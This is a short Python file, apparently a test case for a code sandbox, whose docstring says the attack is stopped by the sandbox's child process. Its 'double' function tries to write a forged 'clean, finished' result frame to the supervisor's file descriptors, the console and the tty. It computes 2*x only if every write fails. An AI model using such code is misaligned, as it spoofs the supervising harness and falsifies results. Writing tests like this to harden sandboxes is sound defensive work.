"""Writes to the descriptors of the supervisor and to all that stands for the container's output.

Stopped by: sandbox/inside/child.py (result)
"""

import os

END = b'\0\0\0\x2b{"end": true, "memory_kib": 1, "clean": true}'
PLACES = [f"/proc/1/fd/{number}" for number in range(20)] + ["/dev/console", "/proc/1/root/dev/stdout", "/dev/tty"]


def double(x):
    for place in PLACES:
        try:
            descriptor = os.open(place, os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        if os.fstat(descriptor).st_rdev != os.makedev(1, 3):
            os.write(descriptor, END)
            return place
    return 2 * x
